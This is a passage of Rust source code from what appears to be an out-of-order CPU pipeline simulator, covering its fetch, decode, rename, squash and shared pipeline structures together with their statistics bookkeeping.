            .record(committed_this_cycle as f64);
        None
    }

    fn reset(&mut self) {
        *self = Self::default();
    }

    fn visit_stats(&self, prefix: &str, v: &mut dyn StatVisitor) {
        self.stats
            .visit(&join_prefix(prefix, ComponentId::Commit.prefix()), v);
        self.rob
            .visit(&join_prefix(prefix, ComponentId::Rob.prefix()), v);
    }
}
