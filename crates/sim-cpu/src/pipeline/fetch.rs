//! The fetch stage: instruction supply, branch prediction, I-TLB and
//! I-cache timing, trap redirect delivery.

use sim_mem::{AccessOutcome, MemoryHierarchy};
use uarch_isa::Inst;
use uarch_stats::registry::ComponentId;
use uarch_stats::{StatGroup, StatVisitor};

use crate::config::CoreConfig;
use crate::decoded::DecodedProgram;
use crate::dyninst::DynInst;
use crate::stats::{CpuStats, FetchStats, TlbStats};
use crate::tlb::Tlb;

use super::{join_prefix, FetchToDecode, PipelineComponent, Predictors, SquashRequest};

/// The fetch stage.
///
/// Owns the speculative pc, the sequence-number allocator, the I-TLB, the
/// fetch-side stall machinery (I-cache misses, squash penalty, pending
/// traps) and the `fetch` / `itb` statistic groups.
#[derive(Debug)]
pub struct FetchStage {
    pub(crate) pc: usize,
    pub(crate) next_seq: u64,
    pub(crate) fetch_stopped: bool,
    pub(crate) fetch_resume_at: u64,
    pub(crate) icache_outstanding: bool,
    pub(crate) icache_stall_until: u64,
    pub(crate) current_fetch_line: Option<u64>,
    pub(crate) trap_pending_until: u64,
    pub(crate) trap_redirect: usize,
    pub(crate) itlb: Tlb,
    pub(crate) stats: FetchStats,
    pub(crate) itb: TlbStats,
    itlb_entries: usize,
}

/// Fetch's view of the machine for one tick.
pub struct FetchPorts<'a> {
    pub(crate) cfg: &'a CoreConfig,
    /// The program, decoded once at core construction.
    pub(crate) decoded: &'a DecodedProgram,
    pub(crate) mem: &'a mut MemoryHierarchy,
    pub(crate) pred: &'a mut Predictors,
    pub(crate) cpu: &'a mut CpuStats,
    /// Outbound port into decode.
    pub(crate) out: &'a mut FetchToDecode,
    /// Occupancy of the decode → rename port (back-pressure signal).
    pub(crate) decode_q_len: usize,
    /// A memory barrier is in flight: fetch must quiesce.
    pub(crate) quiesce: bool,
    pub(crate) halted: bool,
    pub(crate) cycle: u64,
}

impl FetchStage {
    pub(crate) fn new(cfg: &CoreConfig) -> Self {
        Self {
            pc: 0,
            next_seq: 1,
            fetch_stopped: false,
            fetch_resume_at: 0,
            icache_outstanding: false,
            icache_stall_until: 0,
            current_fetch_line: None,
            trap_pending_until: 0,
            trap_redirect: 0,
            itlb: Tlb::new(cfg.itlb_entries, 20),
            stats: FetchStats::default(),
            itb: TlbStats::default(),
            itlb_entries: cfg.itlb_entries,
        }
    }

    /// Delivers a trap recognized at commit: stalls fetch for the trap
    /// latency and redirects to the handler (or reports that the machine
    /// must halt when there is none). Must run *after* the accompanying
    /// squash walk, mirroring the commit stage's original ordering.
    pub(crate) fn take_trap(&mut self, handler: Option<usize>, pending_until: u64) -> bool {
        self.trap_pending_until = pending_until;
        let halt = match handler {
            Some(h) => {
                self.trap_redirect = h;
                self.fetch_stopped = false;
                false
            }
            None => true,
        };
        self.pc = self.trap_redirect;
        halt
    }
}

impl PipelineComponent for FetchStage {
    type Ports<'a> = FetchPorts<'a>;

    fn component_id(&self) -> ComponentId {
        ComponentId::Fetch
    }

    fn tick(&mut self, p: FetchPorts<'_>) -> Option<SquashRequest> {
        if p.halted || self.fetch_stopped {
            self.stats.idle_cycles.inc();
            return None;
        }
        if p.cycle < self.trap_pending_until {
            self.stats.pending_trap_stall_cycles.inc();
            return None;
        }
        if p.cycle < self.fetch_resume_at {
            self.stats.squash_cycles.inc();
            return None;
        }
        if p.quiesce {
            self.stats.pending_quiesce_stall_cycles.inc();
            p.cpu.quiesce_cycles.inc();
            return None;
        }
        if self.icache_outstanding {
            if p.cycle < self.icache_stall_until {
                self.stats.icache_stall_cycles.inc();
                return None;
            }
            self.icache_outstanding = false;
        }
        if p.out.len() >= p.cfg.fetch_queue {
            if p.decode_q_len >= p.cfg.decode_queue {
                self.stats.misc_stall_cycles.inc();
            } else {
                self.stats.blocked_cycles.inc();
            }
            return None;
        }

        let mut fetched = 0usize;
        while fetched < p.cfg.fetch_width && p.out.len() < p.cfg.fetch_queue {
            // I-cache access on line crossings.
            let byte_addr = p.cfg.icode_base + self.pc as u64 * p.cfg.inst_bytes;
            let line = byte_addr / 64;
            if self.current_fetch_line != Some(line) {
                let (itlb_lat, itlb_miss) = self.itlb.access(byte_addr);
                self.itb.rd_accesses.inc();
                if itlb_miss {
                    self.itb.rd_misses.inc();
                    self.itb.walk_cycles.add(itlb_lat);
                } else {
                    self.itb.rd_hits.inc();
                }
                let (lat, outcome) = p.mem.fetch(byte_addr, p.cycle);
                self.current_fetch_line = Some(line);
                self.stats.cache_lines.inc();
                if outcome != AccessOutcome::L1Hit || itlb_lat > 0 {
                    self.icache_outstanding = true;
                    self.icache_stall_until = p.cycle + lat + itlb_lat;
                    break;
                }
            }

            let dec = p.decoded.fetch(self.pc);
            let inst = dec.inst;
            let mut d = DynInst::from_decoded(self.next_seq, self.pc, dec);
            d.fetch_cycle = p.cycle;
            self.next_seq += 1;
            self.stats.insts.inc();
            self.stats.power.dynamic_energy.add(0.8);
            if dec.load {
                p.cpu.num_load_insts.inc();
            } else if dec.store {
                p.cpu.num_store_insts.inc();
            } else if dec.ctrl {
                p.cpu.num_branches.inc();
            }
            if let Some(k) = dec.ctrl_kind {
                self.stats.branch_kind.inc(k);
                p.pred.stats.lookup_kind.inc(k);
            }
            fetched += 1;

            // Branch prediction.
            let (ras_tos, ras_top) = p.pred.ras.checkpoint();
            let mut next_pc = self.pc + 1;
            if dec.ctrl {
                self.stats.branches.inc();
                p.pred.stats.lookups.inc();
                match inst {
                    Inst::Branch { target, .. } => {
                        let (mut taken, mut cp) = p.pred.bp.predict(self.pc);
                        if p.pred.noise_flip() {
                            taken = !taken;
                        }
                        cp.ras_tos = ras_tos;
                        cp.ras_top = ras_top;
                        d.checkpoint = cp;
                        d.predicted_taken = taken;
                        p.pred.stats.cond_predicted.inc();
                        p.pred.stats.btb_lookups.inc();
                        if p.pred.btb.lookup(self.pc).is_some() {
                            p.pred.stats.btb_hits.inc();
                        }
                        if taken {
                            self.stats.predicted_branches.inc();
                            next_pc = target;
                        }
                    }
                    Inst::Jump { target } => {
                        d.predicted_taken = true;
                        d.checkpoint = p.pred.checkpoint(ras_tos, ras_top);
                        next_pc = target;
                    }
                    Inst::Call { target } => {
                        d.predicted_taken = true;
                        d.checkpoint = p.pred.checkpoint(ras_tos, ras_top);
                        p.pred.ras.push(self.pc + 1);
                        next_pc = target;
                    }
                    Inst::JumpInd { .. } | Inst::CallInd { .. } => {
                        d.predicted_taken = true;
                        d.checkpoint = p.pred.checkpoint(ras_tos, ras_top);
                        p.pred.stats.indirect_lookups.inc();
                        p.pred.stats.btb_lookups.inc();
                        if let Some(t) = p.pred.btb.lookup(self.pc) {
                            p.pred.stats.indirect_hits.inc();
                            p.pred.stats.btb_hits.inc();
                            next_pc = t;
                        }
                        if matches!(inst, Inst::CallInd { .. }) {
                            p.pred.ras.push(self.pc + 1);
                        }
                    }
                    Inst::Ret => {
                        d.predicted_taken = true;
                        d.checkpoint = p.pred.checkpoint(ras_tos, ras_top);
                        p.pred.stats.ras_used.inc();
                        next_pc = p.pred.ras.pop();
                    }
                    _ => unreachable!("is_control covers all control insts"),
                }
                d.predicted_target = next_pc;
            }

            self.pc = next_pc;
            let is_halt = matches!(inst, Inst::Halt);
            p.out.0.push_back(d);
            if is_halt {
                self.fetch_stopped = true;
                p.cpu.num_fetch_suspends.inc();
                break;
            }
        }
        self.stats.nisn_dist.0.record(fetched as f64);
        if fetched > 0 {
            self.stats.cycles.inc();
        }
        None
    }

    fn reset(&mut self) {
        let entries = self.itlb_entries;
        *self = Self {
            pc: 0,
            next_seq: 1,
            fetch_stopped: false,
            fetch_resume_at: 0,
            icache_outstanding: false,
            icache_stall_until: 0,
            current_fetch_line: None,
            trap_pending_until: 0,
            trap_redirect: 0,
            itlb: Tlb::new(entries, 20),
            stats: FetchStats::default(),
            itb: TlbStats::default(),
            itlb_entries: entries,
        };
    }

    fn visit_stats(&self, prefix: &str, v: &mut dyn StatVisitor) {
        self.stats
            .visit(&join_prefix(prefix, ComponentId::Fetch.prefix()), v);
        self.itb
            .visit(&join_prefix(prefix, ComponentId::Itb.prefix()), v);
    }
}
