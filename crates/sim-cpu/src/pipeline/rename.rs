//! The rename/dispatch stage: register renaming, resource admission,
//! speculative call-stack maintenance, dispatch into the window.

use uarch_isa::Inst;
use uarch_stats::registry::ComponentId;
use uarch_stats::{StatGroup, StatVisitor};

use crate::config::CoreConfig;
use crate::stats::{FetchStats, IewStats, IqStats, RenameStats, RobStats};

use super::{
    join_prefix, DecodeToRename, HistEntry, PipelineComponent, RegFile, SquashRequest, Window,
};

/// One undoable speculative call-stack operation, tagged with the
/// renaming instruction's sequence number.
#[derive(Debug, Clone, Copy)]
pub(crate) enum CallOp {
    Push,
    Pop(usize),
    Replace(usize),
}

/// The rename/dispatch stage.
///
/// Owns the architectural call stack (maintained speculatively here,
/// rolled back by the squash unit) and the `rename` statistic group.
#[derive(Debug, Default)]
pub struct RenameStage {
    pub(crate) call_stack: Vec<usize>,
    pub(crate) call_hist: std::collections::VecDeque<(u64, CallOp)>,
    pub(crate) stats: RenameStats,
}

/// Rename's view of the machine for one tick.
pub struct RenamePorts<'a> {
    pub(crate) cfg: &'a CoreConfig,
    /// Inbound port from decode.
    pub(crate) input: &'a mut DecodeToRename,
    pub(crate) window: &'a mut Window,
    pub(crate) regs: &'a mut RegFile,
    /// Fetch's drain counter (serializing instructions stall fetch too).
    pub(crate) fetch_stats: &'a mut FetchStats,
    pub(crate) iq_stats: &'a mut IqStats,
    pub(crate) iew_stats: &'a mut IewStats,
    pub(crate) rob_stats: &'a mut RobStats,
    pub(crate) cycle: u64,
}

impl PipelineComponent for RenameStage {
    type Ports<'a> = RenamePorts<'a>;

    fn component_id(&self) -> ComponentId {
        ComponentId::Rename
    }

    fn tick(&mut self, p: RenamePorts<'_>) -> Option<SquashRequest> {
        let mut renamed = 0usize;
        while renamed < p.cfg.rename_width {
            let Some(front) = p.input.0.front() else {
                if renamed == 0 {
                    self.stats.idle_cycles.inc();
                }
                break;
            };
            let inst = front.inst;
            let serializing = front.serializing;
            let is_load = front.load;
            let is_store = front.store;
            let has_dest = front.arch_dest.is_some();
            let non_speculative = front.non_speculative;

            // Serializing instructions drain the window first.
            if serializing && !p.window.rob.is_empty() {
                self.stats.serialize_stall_cycles.inc();
                p.fetch_stats.pending_drain_cycles.inc();
                break;
            }

            // Resource checks.
            if p.window.rob.len() >= p.cfg.rob_entries {
                self.stats.rob_full_events.inc();
                self.stats.block_cycles.inc();
                break;
            }
            if p.window.iq_used >= p.cfg.iq_entries {
                self.stats.iq_full_events.inc();
                self.stats.block_cycles.inc();
                break;
            }
            if is_load && p.window.lq_used >= p.cfg.lq_entries {
                self.stats.lq_full_events.inc();
                self.stats.block_cycles.inc();
                break;
            }
            if is_store && p.window.sq_used >= p.cfg.sq_entries {
                self.stats.sq_full_events.inc();
                self.stats.block_cycles.inc();
                break;
            }
            if has_dest && p.regs.free_list.is_empty() {
                self.stats.full_registers_events.inc();
                self.stats.block_cycles.inc();
                break;
            }

            let mut d = p.input.0.pop_front().expect("checked");
            d.dispatch_cycle = p.cycle;
            renamed += 1;
            self.stats.renamed_insts.inc();
            self.stats.power.dynamic_energy.add(0.9);
            p.rob_stats.writes.inc();

            if serializing {
                if matches!(inst, Inst::RdCycle { .. }) {
                    self.stats.temp_serializing_insts.inc();
                } else {
                    self.stats.serializing_insts.inc();
                }
            }

            // Rename sources.
            let (s0, s1) = d.arch_srcs;
            for (slot, src) in [s0, s1].into_iter().enumerate() {
                if let Some(r) = src {
                    d.srcs[slot] = Some(p.regs.map_table[r.index()]);
                    self.stats.rename_lookups.inc();
                }
            }
            // Rename destination.
            if let Some(rd) = d.arch_dest {
                let new_phys = p.regs.free_list.pop_front().expect("checked non-empty");
                let old_phys = p.regs.map_table[rd.index()];
                p.regs.history.push_back(HistEntry {
                    seq: d.seq,
                    arch: rd.index(),
                    new_phys,
                    old_phys,
                });
                p.regs.map_table[rd.index()] = new_phys;
                p.regs.phys_ready[new_phys] = false;
                // A freshly allocated register starts a new lifetime; any
                // wakeup waiters recorded against its previous one are dead.
                p.regs.dependents[new_phys].clear();
                d.dest_phys = Some(new_phys);
                d.old_phys = Some(old_phys);
                self.stats.renamed_operands.inc();
            }

            // Architectural call-stack maintenance.
            match inst {
                Inst::Call { .. } | Inst::CallInd { .. } => {
                    self.call_stack.push(d.fall_through);
                    self.call_hist.push_back((d.seq, CallOp::Push));
                }
                Inst::Ret => {
                    let target = self.call_stack.pop().unwrap_or(d.fall_through);
                    self.call_hist.push_back((d.seq, CallOp::Pop(target)));
                    d.actual_target = target;
                }
                Inst::SetRet { base } => {
                    // Serialized: the register is architecturally visible.
                    let val = p.regs.phys_regs[p.regs.map_table[base.index()]] as usize;
                    if let Some(top) = self.call_stack.last_mut() {
                        let old = *top;
                        *top = val;
                        self.call_hist.push_back((d.seq, CallOp::Replace(old)));
                    }
                }
                _ => {}
            }

            // Dispatch.
            d.in_iq = true;
            p.window.iq_used += 1;
            p.iq_stats.insts_added.inc();
            p.iew_stats.dispatched_insts.inc();
            if non_speculative {
                d.non_spec = true;
                p.iq_stats.non_spec_insts_added.inc();
                p.iew_stats.disp_non_spec_insts.inc();
            }
            if is_load {
                p.window.lq_used += 1;
                p.iew_stats.disp_load_insts.inc();
                p.iew_stats.lsq.inserted_loads.inc();
                p.iew_stats.mem_dep.inserted_loads.inc();
            }
            if is_store {
                p.window.sq_used += 1;
                p.iew_stats.disp_store_insts.inc();
                p.iew_stats.lsq.inserted_stores.inc();
                p.iew_stats.mem_dep.inserted_stores.inc();
            }
            if matches!(inst, Inst::Membar) {
                p.window.membars_in_flight += 1;
            }

            // Wakeup registration: waiters index themselves under each
            // unready source; source-ready instructions go straight to
            // their pool's ready set (non-speculative ones wait for
            // commit's authorization instead).
            if !p.cfg.reference_scan {
                let mut all_ready = true;
                for src in d.srcs.iter().flatten() {
                    if !p.regs.phys_ready[*src] {
                        p.regs.dependents[*src].push(d.seq);
                        all_ready = false;
                    }
                }
                if all_ready && !d.non_spec {
                    p.window.ready[d.pool].insert(d.seq);
                }
            }

            p.window.rob.push_back(d);
        }
        if renamed > 0 {
            self.stats.run_cycles.inc();
        }
        None
    }

    fn reset(&mut self) {
        *self = Self::default();
    }

    fn visit_stats(&self, prefix: &str, v: &mut dyn StatVisitor) {
        self.stats
            .visit(&join_prefix(prefix, ComponentId::Rename.prefix()), v);
    }
}
