//! The squash unit: rolls the machine back past a mispredicted branch, a
//! memory-order violation or a fault.
//!
//! Squashing is event-driven rather than cycle-driven: the orchestrator
//! applies a [`SquashRequest`] between stage ticks, exactly where the
//! monolithic core performed the walk inline. The ports struct spells out
//! the squash blast radius — every stage's statistics, the window, the
//! rename map and the front-end — which is precisely the paper's point:
//! squash footprints are *invariant* because they appear across so many
//! components at once.

use uarch_isa::Inst;
use uarch_stats::registry::ComponentId;
use uarch_stats::StatVisitor;

use crate::config::CoreConfig;
use crate::stats::CpuStats;

use super::commit::CommitStage;
use super::decode::DecodeStage;
use super::execute::ExecuteStage;
use super::fetch::FetchStage;
use super::issue::IssueStage;
use super::rename::{CallOp, RenameStage};
use super::{DecodeToRename, FetchToDecode, PipelineComponent, RegFile, SquashRequest, Window};

/// The squash unit. Stateless: every squash is fully described by its
/// request and applied against the shared machine state.
#[derive(Debug, Default)]
pub struct SquashUnit;

/// The squash blast radius: everything a rollback touches.
pub struct SquashPorts<'a> {
    pub(crate) cfg: &'a CoreConfig,
    pub(crate) window: &'a mut Window,
    pub(crate) regs: &'a mut RegFile,
    pub(crate) fetch: &'a mut FetchStage,
    pub(crate) decode: &'a mut DecodeStage,
    pub(crate) rename: &'a mut RenameStage,
    pub(crate) issue: &'a mut IssueStage,
    pub(crate) exec: &'a mut ExecuteStage,
    pub(crate) commit: &'a mut CommitStage,
    pub(crate) cpu: &'a mut CpuStats,
    pub(crate) fetch_q: &'a mut FetchToDecode,
    pub(crate) decode_q: &'a mut DecodeToRename,
    pub(crate) cycle: u64,
}

impl SquashUnit {
    /// Squashes every instruction with `seq > req.after`, redirecting fetch
    /// to `req.redirect` (or leaving the trap redirect to the caller when
    /// `None`).
    pub(crate) fn apply(&mut self, req: &SquashRequest, p: &mut SquashPorts<'_>) {
        let after = req.after;
        p.cpu.squash_events.inc();

        // Wrong-path entries still in the front-end queues.
        let dropped = p.fetch_q.len() + p.decode_q.len();
        p.fetch_q.0.clear();
        p.decode_q.0.clear();
        p.decode.stats.squashed_insts.add(dropped as u64);

        // Walk the ROB from the back.
        while let Some(back) = p.window.rob.back() {
            if back.seq <= after {
                break;
            }
            let d = p.window.rob.pop_back().expect("checked non-empty");
            p.commit.stats.squashed_insts.inc();
            p.issue.stats.squashed_insts_examined.inc();
            p.issue
                .stats
                .squashed_operands_examined
                .add(d.srcs.iter().flatten().count() as u64);
            if d.in_iq {
                p.window.iq_used -= 1;
                if d.non_spec {
                    p.issue.stats.squashed_non_spec_removed.inc();
                }
            }
            if d.issued && !d.executed {
                p.issue.stats.squashed_insts_issued.inc();
            }
            if d.executed || d.issued {
                p.exec.stats.exec_squashed_insts.inc();
            } else {
                p.exec.stats.disp_squashed_insts.inc();
            }
            if d.is_load() {
                p.window.lq_used -= 1;
                p.exec.stats.lsq.squashed_loads.inc();
                if d.mem_outstanding {
                    p.exec.stats.lsq.ignored_responses.inc();
                    p.window.mem_outstanding_count -= 1;
                }
            }
            if d.is_store() {
                p.window.sq_used -= 1;
                p.exec.stats.lsq.squashed_stores.inc();
            }
            if matches!(d.inst, Inst::Membar) {
                p.window.membars_in_flight -= 1;
            }
        }

        // Undo rename mappings.
        while let Some(h) = p.regs.history.back() {
            if h.seq <= after {
                break;
            }
            let h = p.regs.history.pop_back().expect("checked");
            p.regs.map_table[h.arch] = h.old_phys;
            p.regs.free_list.push_front(h.new_phys);
            p.rename.stats.undone_maps.inc();
        }

        // Undo call-stack operations.
        while let Some(&(seq, op)) = p.rename.call_hist.back() {
            if seq <= after {
                break;
            }
            p.rename.call_hist.pop_back();
            match op {
                CallOp::Push => {
                    p.rename.call_stack.pop();
                }
                CallOp::Pop(v) => p.rename.call_stack.push(v),
                CallOp::Replace(old) => {
                    if let Some(top) = p.rename.call_stack.last_mut() {
                        *top = old;
                    }
                }
            }
        }

        // Front-end redirect.
        if p.fetch.icache_outstanding {
            p.fetch.stats.icache_squashes.inc();
            p.fetch.icache_outstanding = false;
        }
        p.fetch.current_fetch_line = None;
        p.fetch.fetch_stopped = false;
        if let Some(pc) = req.redirect {
            p.fetch.pc = pc;
        }
        p.fetch.fetch_resume_at = p.cycle + p.cfg.squash_penalty;
        p.decode.stats.squash_cycles.add(p.cfg.squash_penalty);
        p.rename.stats.squash_cycles.add(p.cfg.squash_penalty);
        p.exec.stats.squash_cycles.add(p.cfg.squash_penalty);
        p.exec.stats.block_cycles.inc();
    }
}

impl PipelineComponent for SquashUnit {
    type Ports<'a> = SquashPorts<'a>;

    /// The squash unit publishes no statistics of its own (its footprint
    /// is spread across the other components); its only direct counter,
    /// `squashEvents`, is a CPU-level statistic.
    fn component_id(&self) -> ComponentId {
        ComponentId::Cpu
    }

    /// Squashing is event-driven; the per-cycle tick is a no-op. Use
    /// `SquashUnit::apply` with a [`SquashRequest`] instead.
    fn tick(&mut self, _p: SquashPorts<'_>) -> Option<SquashRequest> {
        None
    }

    fn reset(&mut self) {}

    fn visit_stats(&self, _prefix: &str, _v: &mut dyn StatVisitor) {}
}
