//! The decode stage: moves instructions from the fetch queue into the
//! decode queue, resolving direct jump/call targets early.

use uarch_isa::Inst;
use uarch_stats::registry::ComponentId;
use uarch_stats::{StatGroup, StatVisitor};

use crate::config::CoreConfig;
use crate::stats::DecodeStats;

use super::{join_prefix, DecodeToRename, FetchToDecode, PipelineComponent, SquashRequest};

/// The decode stage. Owns the `decode` statistic group; the queues it
/// drains and fills are the typed fetch→decode and decode→rename ports.
#[derive(Debug, Default)]
pub struct DecodeStage {
    pub(crate) stats: DecodeStats,
}

/// Decode's view of the machine for one tick.
pub struct DecodePorts<'a> {
    pub(crate) cfg: &'a CoreConfig,
    /// Inbound port from fetch.
    pub(crate) input: &'a mut FetchToDecode,
    /// Outbound port into rename.
    pub(crate) out: &'a mut DecodeToRename,
}

impl PipelineComponent for DecodeStage {
    type Ports<'a> = DecodePorts<'a>;

    fn component_id(&self) -> ComponentId {
        ComponentId::Decode
    }

    fn tick(&mut self, p: DecodePorts<'_>) -> Option<SquashRequest> {
        let mut decoded = 0;
        while decoded < p.cfg.decode_width
            && !p.input.is_empty()
            && p.out.len() < p.cfg.decode_queue
        {
            let d = p.input.0.pop_front().expect("checked non-empty");
            if matches!(d.inst, Inst::Jump { .. } | Inst::Call { .. }) {
                self.stats.branch_resolved.inc();
            }
            p.out.0.push_back(d);
            decoded += 1;
            self.stats.decoded_insts.inc();
            self.stats.power.dynamic_energy.add(0.5);
        }
        if decoded > 0 {
            self.stats.run_cycles.inc();
        } else if p.input.is_empty() {
            self.stats.idle_cycles.inc();
        } else {
            self.stats.blocked_cycles.inc();
        }
        None
    }

    fn reset(&mut self) {
        self.stats = DecodeStats::default();
    }

    fn visit_stats(&self, prefix: &str, v: &mut dyn StatVisitor) {
        self.stats
            .visit(&join_prefix(prefix, ComponentId::Decode.prefix()), v);
    }
}
