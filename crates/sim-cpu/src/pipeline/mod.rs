//! The pipeline stages as first-class components.
//!
//! Each stage module owns its architectural state and its statistics and
//! implements [`PipelineComponent`]; the [`Core`](crate::Core) is only an
//! orchestrator that wires the stages together through small typed ports:
//!
//! * fetch → decode through [`FetchToDecode`],
//! * decode → rename through [`DecodeToRename`],
//! * issue → execute through the [`FuWakeup`](execute::FuWakeup) port
//!   (functional-unit wakeup at issue),
//! * commit/execute/issue → squash through [`SquashRequest`], applied by
//!   the [`SquashUnit`](squash::SquashUnit) between stage ticks.
//!
//! Cross-stage *resources* — the instruction window, the physical register
//! file, the predictors — are shared structs the orchestrator lends to each
//! stage for the duration of its tick, so every stage's footprint is spelled
//! out in its ports struct instead of hiding behind `&mut self` on one
//! monolithic core.

use std::collections::{BTreeSet, VecDeque};

use uarch_isa::{Inst, Reg};
use uarch_stats::registry::ComponentId;
use uarch_stats::StatVisitor;

use crate::bpred::{Btb, PredCheckpoint, Ras, TournamentPredictor};
use crate::config::CoreConfig;
use crate::dyninst::DynInst;
use crate::stats::{BPredStats, CtrlKind};

pub mod commit;
pub mod decode;
pub mod execute;
pub mod fetch;
pub mod issue;
pub mod rename;
pub mod squash;

/// A pipeline stage that can be ticked once per cycle.
///
/// Stages own their architectural state and statistics; everything else
/// they touch is passed in through their `Ports` type, which the
/// orchestrating [`Core`](crate::Core) constructs from the shared machine
/// resources each cycle. A tick may request a squash (mispredict, memory
/// order violation, fault); the orchestrator applies it through the
/// [`SquashUnit`](squash::SquashUnit) before the next stage runs, exactly
/// where the monolithic core performed it inline.
pub trait PipelineComponent {
    /// The stage's view of the rest of the machine for one tick.
    type Ports<'a>;

    /// The registry component this stage's statistics belong to.
    fn component_id(&self) -> ComponentId;

    /// Advances the stage one cycle.
    fn tick(&mut self, ports: Self::Ports<'_>) -> Option<SquashRequest>;

    /// Restores power-on state (architectural state and statistics).
    fn reset(&mut self);

    /// Visits the statistic groups this stage owns, registered under the
    /// component's canonical prefix relative to `prefix`.
    fn visit_stats(&self, prefix: &str, v: &mut dyn StatVisitor);
}

/// A squash demand raised by a stage tick.
///
/// `after` is the last sequence number to survive; everything younger is
/// rolled back. `redirect` is the corrected fetch pc (`None` leaves the pc
/// to the trap path). `trap` carries commit's fault delivery, applied by
/// the orchestrator after the squash walk.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct SquashRequest {
    /// Last surviving sequence number.
    pub after: u64,
    /// Corrected fetch pc, if the squashing stage resolved one.
    pub redirect: Option<usize>,
    /// Fault delivery accompanying the squash (commit only).
    pub trap: Option<TrapRequest>,
}

/// Commit's fault-delivery half of a [`SquashRequest`].
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct TrapRequest {
    /// Fault handler entry point; `None` halts the machine.
    pub handler: Option<usize>,
}

/// The fetch → decode port: fetched instructions waiting to decode.
#[derive(Debug, Default)]
pub struct FetchToDecode(pub(crate) VecDeque<DynInst>);

/// The decode → rename port: decoded instructions waiting to rename.
#[derive(Debug, Default)]
pub struct DecodeToRename(pub(crate) VecDeque<DynInst>);

macro_rules! queue_api {
    ($ty:ident) => {
        impl $ty {
            /// Instructions currently buffered in the port.
            pub fn len(&self) -> usize {
                self.0.len()
            }

            /// Whether the port is empty.
            pub fn is_empty(&self) -> bool {
                self.0.is_empty()
            }
        }
    };
}
queue_api!(FetchToDecode);
queue_api!(DecodeToRename);

/// One undoable rename-map update (new mapping for `arch`, displacing
/// `old_phys`), tagged with the renaming instruction's sequence number.
#[derive(Debug, Clone, Copy)]
pub(crate) struct HistEntry {
    pub(crate) seq: u64,
    pub(crate) arch: usize,
    pub(crate) new_phys: usize,
    pub(crate) old_phys: usize,
}

/// The physical register file and rename map, shared by rename (allocate),
/// issue/execute (read/write), commit (retire) and squash (roll back).
#[derive(Debug)]
pub struct RegFile {
    pub(crate) map_table: [usize; Reg::COUNT],
    pub(crate) free_list: VecDeque<usize>,
    pub(crate) phys_regs: Vec<u64>,
    pub(crate) phys_ready: Vec<bool>,
    pub(crate) history: VecDeque<HistEntry>,
    /// Reverse dependency index for the wakeup network: per physical
    /// register, the sequence numbers of in-window instructions waiting on
    /// it. Rename appends a waiter per unready source; execute drains the
    /// list when the register's value completes. Entries are validated
    /// lazily against the window (stale sequence numbers are dropped), and
    /// the list is cleared when its register is re-allocated.
    pub(crate) dependents: Vec<Vec<u64>>,
}

impl RegFile {
    pub(crate) fn new(phys: usize) -> Self {
        let mut map_table = [0usize; Reg::COUNT];
        for (i, m) in map_table.iter_mut().enumerate() {
            *m = i;
        }
        Self {
            map_table,
            free_list: (Reg::COUNT..phys).collect(),
            phys_regs: vec![0; phys],
            phys_ready: vec![true; phys],
            history: VecDeque::new(),
            dependents: vec![Vec::new(); phys],
        }
    }

    /// Architectural value of register `r` (through the rename map).
    pub fn read_arch(&self, r: Reg) -> u64 {
        self.phys_regs[self.map_table[r.index()]]
    }
}

/// The instruction window: the ROB plus the occupancy counters of the
/// queues that back-pressure rename (IQ, LQ, SQ) and the in-flight
/// memory-barrier count that quiesces fetch.
#[derive(Debug, Default)]
pub struct Window {
    pub(crate) rob: VecDeque<DynInst>,
    pub(crate) iq_used: usize,
    pub(crate) lq_used: usize,
    pub(crate) sq_used: usize,
    pub(crate) membars_in_flight: usize,
    /// Per-functional-unit-pool ready sets (see
    /// [`fu_pool`](crate::decoded::fu_pool) for the pool indices): the
    /// sequence numbers of queued instructions whose sources are all
    /// ready. Maintained by the wakeup network (rename dispatch, execute
    /// completion, commit's non-speculative authorization); consumed by
    /// the ready-queue select in issue. Unused under
    /// `CoreConfig::reference_scan`.
    pub(crate) ready: [BTreeSet<u64>; 5],
    /// Instructions in the window with a memory response in flight
    /// (`DynInst::mem_outstanding`), maintained incrementally so issue's
    /// MSHR back-pressure check is O(1) instead of a window scan.
    pub(crate) mem_outstanding_count: usize,
}

impl Window {
    /// Instructions currently in flight in the window.
    pub fn len(&self) -> usize {
        self.rob.len()
    }

    /// Whether the window is empty.
    pub fn is_empty(&self) -> bool {
        self.rob.is_empty()
    }

    pub(crate) fn inst_of(&self, seq: u64) -> &DynInst {
        let i = self
            .rob
            .binary_search_by_key(&seq, |d| d.seq)
            .expect("seq in rob");
        &self.rob[i]
    }

    pub(crate) fn inst_mut(&mut self, seq: u64) -> &mut DynInst {
        let i = self
            .rob
            .binary_search_by_key(&seq, |d| d.seq)
            .expect("seq in rob");
        &mut self.rob[i]
    }

    /// Non-panicking lookup, for lazily validating wakeup-network entries
    /// whose instruction may have been squashed or retired since enqueue.
    pub(crate) fn find(&self, seq: u64) -> Option<&DynInst> {
        self.rob
            .binary_search_by_key(&seq, |d| d.seq)
            .ok()
            .map(|i| &self.rob[i])
    }
}

/// The branch-prediction machinery: tournament predictor, BTB and RAS,
/// plus the deterministic mistraining-noise source (§IV-G1) and the
/// `branchPred` statistics.
#[derive(Debug)]
pub struct Predictors {
    pub(crate) bp: TournamentPredictor,
    pub(crate) btb: Btb,
    pub(crate) ras: Ras,
    pub(crate) bp_noise_ppm: u32,
    pub(crate) noise_rng: u64,
    pub(crate) stats: BPredStats,
}

impl Predictors {
    pub(crate) fn new(cfg: &CoreConfig) -> Self {
        Self {
            bp: TournamentPredictor::new(
                cfg.local_predictor_size,
                cfg.global_predictor_size,
                cfg.choice_predictor_size,
            ),
            btb: Btb::new(cfg.btb_entries),
            ras: Ras::new(cfg.ras_entries),
            bp_noise_ppm: 0,
            noise_rng: 0x243f_6a88_85a3_08d3,
            stats: BPredStats::default(),
        }
    }

    /// Draws one noise decision: whether to flip the next conditional
    /// prediction (xorshift64*, deterministic per seed).
    pub(crate) fn noise_flip(&mut self) -> bool {
        if self.bp_noise_ppm == 0 {
            return false;
        }
        self.noise_rng ^= self.noise_rng << 13;
        self.noise_rng ^= self.noise_rng >> 7;
        self.noise_rng ^= self.noise_rng << 17;
        (self.noise_rng % 1_000_000) < self.bp_noise_ppm as u64
    }

    /// A predictor checkpoint capturing the current GHR alongside the
    /// caller's RAS coordinates, for squash recovery.
    pub(crate) fn checkpoint(&self, ras_tos: usize, ras_top: usize) -> PredCheckpoint {
